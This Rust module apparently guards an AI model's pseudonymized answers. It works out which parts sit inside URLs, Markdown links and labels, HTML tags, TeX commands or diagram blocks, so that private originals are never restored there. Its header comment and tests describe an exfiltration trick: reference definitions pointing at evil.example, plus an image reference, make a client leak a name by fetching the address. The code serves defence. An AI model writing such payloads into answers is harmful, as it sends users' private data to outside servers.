//! Where an answer holds addresses, so that nothing private is put into one.
//!
//! Who fetches an address tells its server what is in it: a client that shows pictures does so unasked. An answer may be
//! written to make use of that, so originals never go into addresses, targets of Markdown links and HTML tags. Where
//! it is in doubt whether something is one, nothing is put there: the surrogate that stays does no harm.
//!
//! Programs that make links of plain text take everything up to the next white space, whatever markup stands in it:
//! so what follows an address in the same chunk belongs to it.
//!
//! # Names that are looked up
//!
//! An answer can also *name* an address. It may define `[Alice]: https://evil.example/alice` and so on for a thousand
//! names, and ask for `![Kenneth][]`: with the original in the brackets, a client fetches the address that tells it. The
//! definitions may come later, so nothing goes into square brackets, of whatever kind. A label of Markdown has no
//! bracket in it without a backslash, and no empty line; so what stands in one has an opening bracket before it and no
//! closing one between. Opening brackets are counted wherever they stand, closing ones in text alone, and an
//! empty line ends all. For the same reason names of TeX's commands stay as they are, and so does all that follows the
//! beginning of a diagram: what draws it may fetch whatever its names are defined to be, or send it to a server whole.

use std::ops::Range;

use super::addresses::{is_address, open_mark};

/// What a stretch of an answer is part of.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Region {
    Text,
    /// The target of a link, up to the closing bracket. Brackets within it come in pairs: so many are open.
    Target(u32),
    /// A target in angle brackets, up to the closing one: round ones do not end it. What comes behind it.
    Angle(Behind),
    /// A tag, up to its closing bracket.
    Tag(Tag),
    /// What follows `[name]:`.
    Definition,
    /// An address with white space in it, up to this quotation mark.
    Quoted(char),
    /// What begins with a comment, a script or the like: where that ends takes more than is read here.
    Rest,
}

/// What a target in angle brackets belongs to.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Behind {
    /// A link, whose closing bracket is still to come.
    Link,
    /// A definition, which ends with it.
    Definition,
}

/// Where in a tag a character stands, as browsers read tags: a closing bracket within quotation marks does not end
/// one, and what looks like a quotation mark is one behind `name=` alone.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Tag {
    Element,
    BeforeName,
    Name,
    AfterName,
    BeforeValue,
    Value,
    Quoted(char),
}

/// Elements whose content is no HTML, or which send on or fetch by what stands behind them.
const RAW: [&str; 24] = [
    "script",
    "style",
    "textarea",
    "title",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "noscript",
    "plaintext",
    "svg",
    "math",
    "form",
    "select",
    "option",
    "datalist",
    "button",
    "link",
    "base",
    "object",
    "embed",
    "applet",
    "frame",
    "frameset",
];

/// Languages of code that clients draw.
const DRAWN: [&str; 24] = [
    "actdiag",
    "blockdiag",
    "bytefield",
    "d2",
    "ditaa",
    "dot",
    "erd",
    "graphviz",
    "gv",
    "kroki",
    "mermaid",
    "nomnoml",
    "nwdiag",
    "pikchr",
    "plantuml",
    "puml",
    "seqdiag",
    "structurizr",
    "svgbob",
    "tikz",
    "uml",
    "vega",
    "vegalite",
    "wavedrom",
];

/// What PlantUML draws, behind `@start`.
const PLANT: [&str; 8] = [
    "ditaa", "dot", "gantt", "json", "mindmap", "salt", "uml", "wbs",
];

/// Marks before the language of code.
const FENCES: [&str; 3] = ["```", "~~~", ":::"];

/// Reads an answer chunk by chunk; white space divides chunks.
#[derive(Clone, Copy, PartialEq, Eq)]
pub struct Links {
    region: Region,
    /// Line feeds since the last chunk.
    lines: u32,
    /// Whether an address has begun that goes on up to plain white space.
    address: bool,
    /// Square brackets that are open.
    brackets: u32,
    /// Whether the marks before the language of code have come, and the line goes on.
    fence: bool,
}

impl Links {
    pub fn new() -> Links {
        Links {
            region: Region::Text,
            lines: 0,
            address: false,
            brackets: 0,
            fence: false,
        }
    }

    /// White space. No link goes on behind an empty line, and no tag without an attribute.
    pub fn space(&mut self, c: char) {
        self.lines = match c {
            '\n' => self.lines + 1,
            ' ' | '\t' | '\r' => self.lines,
            // A line with other white space in it is not empty.
            _ => 0,
        };
        if self.lines >= 2 {
            self.brackets = 0;
        }
        self.fence &= c != '\n';
        self.address &= !c.is_ascii();
        self.region = match self.region {
            Region::Tag(Tag::Element | Tag::BeforeName) | Region::Target(_) | Region::Angle(_)
                if self.lines >= 2 =>
            {
                Region::Text
            }
            Region::Quoted(_) | Region::Definition if self.lines >= 2 => Region::Text,
            Region::Angle(Behind::Link) if c == '\n' => Region::Target(0),
            Region::Tag(tag) => Region::Tag(tag.step(c).unwrap_or(tag)),
            region => region,
        };
    }

    /// Divides a chunk: `each` gets its stretches in order, and whether one is plain text.
    pub fn chunk<'t>(&mut self, chunk: &'t str, mut each: impl FnMut(&'t str, bool)) {
        if chunk.is_empty() {
            return;
        }
        self.lines = 0;
        if self.is_drawn(chunk) {
            self.region = Region::Rest;
        }
        let (mut rest, mut quoted) = (chunk, None);
        while !rest.is_empty() {
            let (length, next) = match self.region {
                Region::Text => opening(rest),
                Region::Target(0) if rest.starts_with('<') => (1, Region::Angle(Behind::Link)),
                Region::Target(open) => closing_target(rest, open),
                Region::Angle(Behind::Link) => closing(rest, '>', self.region, Region::Target(0)),
                Region::Angle(Behind::Definition) => closing(rest, '>', self.region, Region::Text),
                Region::Quoted(mark) => closing(rest, mark, self.region, Region::Text),
                Region::Tag(tag) => closing_tag(rest, tag),
                Region::Definition if rest.starts_with('<') => {
                    (1, Region::Angle(Behind::Definition))
                }
                Region::Definition => (rest.len(), Region::Text),
                Region::Rest => (rest.len(), Region::Rest),
            };
            let (stretch, behind) = rest.split_at(length);
            self.address = self.address || is_address(stretch);
            match self.region {
                Region::Text => self.text(stretch, &mut each),
                _ => {
                    let opened = stretch.matches('[').count() as u32;
                    self.brackets = self.brackets.saturating_add(opened);
                    each(stretch, false);
                }
            }
            if self.region == Region::Text && self.address {
                quoted = quoted.or(open_mark(stretch));
            }
            (self.region, rest) = (next, behind);
        }
        if let (Region::Text, Some(mark)) = (self.region, quoted) {
            self.region = Region::Quoted(mark);
        }
    }

    /// Divides text by square brackets, and by names of TeX's commands.
    fn text<'t>(&mut self, stretch: &'t str, each: &mut impl FnMut(&'t str, bool)) {
        let mut start = 0;
        let mut tell = |end: usize, plain: bool| {
            if start < end {
                each(&stretch[start..end], plain);
                start = end;
            }
        };
        for (end, c) in unescaped(stretch) {
            let before = self.brackets == 0 && !self.address;
            match c {
                '[' => self.brackets = self.brackets.saturating_add(1),
                ']' => self.brackets = self.brackets.saturating_sub(1),
                '\\' => {
                    let behind = &stretch[end..];
                    let name = behind.find(|c: char| !c.is_alphabetic());
                    let name = name.unwrap_or(behind.len());
                    if name > 0 {
                        tell(end, before);
                        tell(end + name, false);
                    }
                    continue;
                }
                _ => continue,
            }
            if before != (self.brackets == 0 && !self.address) {
                tell(end, before);
            }
        }
        tell(stretch.len(), self.brackets == 0 && !self.address);
    }

    /// Whether a diagram begins here, which is said in the line of the marks.
    fn is_drawn(&mut self, chunk: &str) -> bool {
        let is_in = |names: &[&str], text: &str| {
            let end = text.find(|c: char| !c.is_ascii_alphanumeric());
            let name = &text[..end.unwrap_or(text.len())];
            names.iter().any(|known| known.eq_ignore_ascii_case(name))
        };
        let behind = |mark: &str| chunk.rfind(mark).map(|at| at + mark.len());
        let begins = FENCES.into_iter().filter_map(behind).max();
        self.fence |= begins.is_some();
        let info = &chunk[begins.unwrap_or(0)..];
        let info = info.trim_start_matches(|c: char| !c.is_ascii_alphanumeric());
        let plant = chunk.split_once("@start").map(|(_, kind)| kind);
        self.fence && is_in(&DRAWN, info) || plant.is_some_and(|kind| is_in(&PLANT, kind))
    }
}

/// How a reader puts the blocks of an answer together.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Join {
    /// One right behind the other.
    Touching,
    /// Each is a text of its own.
    Apart,
    /// A line feed between them.
    Line,
    /// An empty line between them.
    Paragraph,
}

impl Join {
    fn next_block(self, links: &mut Links) {
        match self {
            Join::Touching => {}
            Join::Apart => *links = Links::new(),
            Join::Line => links.space('\n'),
            Join::Paragraph => (0..2).for_each(|_| links.space('\n')),
        }
    }
}

/// The ways to read an answer, which may come in blocks. What is plain text is that in all of them.
#[derive(Clone, PartialEq, Eq)]
pub struct Readings(Vec<(Join, Links)>);

impl Readings {
    pub fn new() -> Readings {
        Readings(vec![(Join::Touching, Links::new())])
    }

    /// White space.
    pub fn space(&mut self, c: char) {
        self.0.iter_mut().for_each(|(_, links)| links.space(c));
    }

    /// Reads a chunk in which blocks begin at these places; where it is plain text, divided where blocks are.
    pub fn chunk(&mut self, chunk: &str, blocks: &[usize]) -> Vec<Range<usize>> {
        // Up to the first block that has one before it, all readings are the same.
        if let ([(_, links)], false) = (&self.0[..], blocks.is_empty()) {
            let links = *links;
            let others = [Join::Apart, Join::Line, Join::Paragraph];
            self.0.extend(others.map(|join| (join, links)));
        }
        let mut plain: Option<Vec<Range<usize>>> = None;
        for (join, links) in &mut self.0 {
            let cuts = match join {
                Join::Touching => &[],
                _ => blocks,
            };
            let (mut found, mut at) = (Vec::new(), 0);
            let mut read = |links: &mut Links, end: usize| {
                links.chunk(&chunk[at..end], |stretch, is_plain| {
                    if is_plain {
                        found.push(at..at + stretch.len());
                    }
                    at += stretch.len();
                });
            };
            for &block in cuts {
                read(links, block);
                join.next_block(links);
            }
            read(links, chunk.len());
            plain = Some(plain.map_or(found.clone(), |plain| common(&plain, &found)));
        }
        plain.unwrap_or_default()
    }
}

/// What is in both of two series of ranges, each in order.
fn common(a: &[Range<usize>], b: &[Range<usize>]) -> Vec<Range<usize>> {
    let (mut a, mut b) = (a.iter().peekable(), b.iter().peekable());
    let mut both = Vec::new();
    while let (Some(x), Some(y)) = (a.peek(), b.peek()) {
        let range = x.start.max(y.start)..x.end.min(y.end);
        let first_ends = x.end <= y.end;
        if !range.is_empty() {
            both.push(range);
        }
        match first_ends {
            true => a.next(),
            false => b.next(),
        };
    }
    both
}

/// Up to where text goes, and what comes next. Nothing behind that is looked at: a long word takes no longer for it.
fn opening(text: &str) -> (usize, Region) {
    let mut marks = text.match_indices(['<', ']', '\u{1b}', '\u{9d}']);
    let first = marks.find_map(|(at, mark)| {
        let behind = &text[at + mark.len()..];
        match mark {
            "<" => begins(behind).map(|region| (at + 1, region)),
            "]" => match behind.chars().next()? {
                '(' => Some((at + 2, Region::Target(0))),
                ':' => Some((at + 2, Region::Definition)),
                _ => None,
            },
            // Terminals have links too, between control characters.
            _ => Some((at, Region::Rest)),
        }
    });
    first.unwrap_or((text.len(), Region::Text))
}

/// What an angle bracket begins, by what stands inside.
fn begins(inside: &str) -> Option<Region> {
    let name = inside.strip_prefix('/').unwrap_or(inside);
    let end = name
        .find(|c: char| !c.is_ascii_alphanumeric())
        .unwrap_or(name.len());
    match inside.chars().next()? {
        '!' | '?' => Some(Region::Rest),
        _ if RAW.iter().any(|raw| raw.eq_ignore_ascii_case(&name[..end])) => Some(Region::Rest),
        '/' | 'a'..='z' | 'A'..='Z' => Some(Region::Tag(Tag::Element)),
        _ => None,
    }
}

/// The characters that no backslash stands before, each with where it ends.
fn unescaped(text: &str) -> impl Iterator<Item = (usize, char)> {
    let mut escaped = false;
    text.char_indices().filter_map(move |(at, c)| {
        let plain = !std::mem::take(&mut escaped);
        escaped = plain && c == '\\';
        plain.then_some((at + c.len_utf8(), c))
    })
}

/// Up to where a region goes, its closing mark included, and what comes behind it.
fn closing(text: &str, mark: char, region: Region, behind: Region) -> (usize, Region) {
    let found = unescaped(text).find(|&(_, c)| c == mark);
    found.map_or((text.len(), region), |(end, _)| (end, behind))
}

/// Up to where a link's target goes, of which so many brackets are open.
fn closing_target(text: &str, mut open: u32) -> (usize, Region) {
    for (end, c) in unescaped(text) {
        match c {
            ')' if open == 0 => return (end, Region::Text),
            ')' => open -= 1,
            '(' => open += 1,
            _ => {}
        }
    }
    (text.len(), Region::Target(open))
}

fn closing_tag(text: &str, mut tag: Tag) -> (usize, Region) {
    for (at, c) in text.char_indices() {
        match tag.step(c) {
            None => return (at + 1, Region::Text),
            Some(next) => tag = next,
        }
    }
    (text.len(), Region::Tag(tag))
}

impl Tag {
    /// Where the character behind `c` stands, or nothing if `c` ends the tag.
    fn step(self, c: char) -> Option<Tag> {
        Some(match (self, c) {
            (Tag::Quoted(mark), _) if c == mark => Tag::BeforeName,
            (Tag::Quoted(_), _) => self,
            (_, '>') => return None,
            (Tag::BeforeValue, '"' | '\'') => Tag::Quoted(c),
            (Tag::Name, c) if c.is_whitespace() => Tag::AfterName,
            (Tag::AfterName | Tag::BeforeValue, c) if c.is_whitespace() => self,
            (_, c) if c.is_whitespace() => Tag::BeforeName,
            (Tag::Name | Tag::AfterName, '=') => Tag::BeforeValue,
            (Tag::BeforeValue | Tag::Value, _) => Tag::Value,
            (Tag::Element, '/') => Tag::BeforeName,
            (Tag::Element, _) => Tag::Element,
            (_, '/') => Tag::BeforeName,
            _ => Tag::Name,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The text with everything but plain text blotted out.
    fn plain(text: &str) -> String {
        let mut links = Links::new();
        let mut out = String::new();
        for chunk in text.split_inclusive(char::is_whitespace) {
            let end = chunk.trim_end();
            links.chunk(end, |stretch, plain| match plain {
                true => out.push_str(stretch),
                false => out.extend(stretch.chars().map(|_| '.')),
            });
            chunk[end.len()..].chars().for_each(|c| {
                links.space(c);
                out.push(c);
            });
        }
        out
    }

    #[test]
    fn nothing_in_an_address_is_plain() {
        for (text, expected) in [
            ("see http://a.b/ken now", "see .............. now"),
            (
                "![ken](//a.b/?q=ken ken) ken",
                "![....(............ .... ken",
            ),
            ("[ken](a\nken) ken", "[....(.\n.... ken"),
            ("<img src='ken' alt=ken> ken", "<... ......... ........ ken"),
            ("x <y\n\nken", "x <.\n\nken"),
            ("<a href='>\n\nken' ken> ken", "<. .......\n\n.... .... ken"),
            (
                "<i =\"> ken <a b=\"> ken\"> ken",
                "<. ... ken <. .... ..... ken",
            ),
            ("<!-- ken --> ken", "<... ... ... ..."),
            ("<SCRIPT>ken</SCRIPT> ken", "<................... ..."),
            ("[a](<b) ken> ken) ken", "[..(... .... .... ken"),
            (
                "{\"u\": \"https://b/?q= ken\"} ken",
                "{\"u\": .............. ....} ken",
            ),
            ("https://b/?q=\u{a0}ken ken", ".............\u{a0}... ken"),
            ("ken.b.org, ken", ".......... ken"),
            ("https:\\\\b\\ken", "............."),
            ("e.g. ken. 3.5 ken", "e.g. ken. 3.5 ken"),
            ("ken@a.org, ken", ".......... ken"),
            ("a.org/ken a.org?ken ken", "......... ......... ken"),
            ("and/or ken. Really? 3 < ken", "and/or ken. Really? 3 < ken"),
            ("[1]: a/ken ken", "[..: ..... ken"),
            ("(ken)[1] ken:ken", "(ken)[.. ken:ken"),
            ("mailto:ken ken", ".......... ken"),
            // Brackets within a target come in pairs, or behind a backslash.
            ("![a](https://b/(x)/ken) ken", "![..(.................. ken"),
            ("![a](//b/((x)) ken) ken", "![..(......... .... ken"),
            ("![a](//b/\\)ken) ken", "![..(.......... ken"),
            ("![a](//b/\\\\)ken ken", "![..(.......... ken"),
            ("![a](<//b/\\> ken> ken) ken", "![..(....... .... .... ken"),
            // What follows an address belongs to it, up to white space.
            ("http://b/?q=<b>ken ken", ".................. ken"),
            ("http://b/](x)ken", "................"),
            ("http://b/?q=[a](b)ken", "....................."),
            ("ken [ken](a)ken", "ken [....(..ken"),
            ("https:\\/\\/b/ken", "..............."),
            ("ken**.org**", "..........."),
            // A definition's target in angle brackets may hold spaces, and its name too.
            (
                "[a]: <https://b/?q= ken> ken",
                "[..: .............. .... ken",
            ),
            ("[a b]: <1.2.3.4/ ken> ken", "[. ..: ......... .... ken"),
            ("[a b]: ken", "[. ..: ..."),
            (
                "\\url{https://b/?q= ken} ken",
                ".................. .... ken",
            ),
            (
                "{\"u\":\"https://b/x\", \"n\":\"ken\"}",
                "................... \"n\":\"ken\"}",
            ),
            // Characters by number or name, and links of terminals.
            (
                "\"\\u002f\\u002fb\\u002ec?ken\"",
                "..........................",
            ),
            (
                "\\underline{ken} &c; ken&#46;b",
                "\\.........{ken} ... .........",
            ),
            (
                "&sol;&sol;b&period;c&sol;ken AT&T ken;",
                "............................ AT&T ken;",
            ),
            // Labels, wherever their brackets stand, up to an empty line; others do not end one.
            ("![ken][] ken", "![....[. ken"),
            ("[a ken\nken [b] ken] ken", "[. ...\n... ... .... ken"),
            ("[a\n \nken] ken", "[.\n \nken] ken"),
            ("[a\n\u{a0}\nken] ken", "[.\n\u{a0}\n.... ken"),
            ("\\[ken\\] [a\\] ken] ken", "\\[ken\\] [... .... ken"),
            ("<b [a >ken] ken", "<. .. ..... ken"),
            ("[a](b [c) ken] ken", "[..(. ... .... ken"),
            ("[<b c=\"] ken\"> ken] ken", "[.. .... ..... .... ken"),
            // Names of commands, and arguments of those that fetch or look up.
            (
                "\\ken{ken} \\\\ken \\alpha ken",
                "\\...{ken} \\\\ken \\..... ken",
            ),
            (
                "\\begin{ken} ken \\csname ken} ken",
                "........... ken ....... .... ken",
            ),
            (
                "\\href {ken} ken {:ken} {:?} ken",
                "..... ..... ken ...... {:?} ken",
            ),
            // Diagrams, and what fetches or sends on by what stands behind it.
            (
                "```rust\nken\n```\n\n~~~ {.Mermaid}\nken",
                "```rust\nken\n```\n\n~~~ ..........\n...",
            ),
            ("@start ken @startuml\nken", "@start ken .........\n..."),
            ("<link rel=a>ken", "<.... ........."),
            ("\u{1b}]8;;//b/?q= ken\u{7} x", "............ .... ."),
        ] {
            assert_eq!(plain(text), expected);
        }
    }

    /// With what looks again and again at the rest of a word, these would not come to an end.
    #[test]
    fn long_words_take_no_longer_than_many_short_ones() {
        for part in [
            "<a>", "1.", "](x)", "<", "]", "&", "\\", "@", "{", "(", "1./", "<a =", "[", "\\a",
            "```", "{:",
        ] {
            let text = part.repeat(1_000_000);
            assert_eq!(plain(&text).chars().count(), text.chars().count());
        }
    }
}
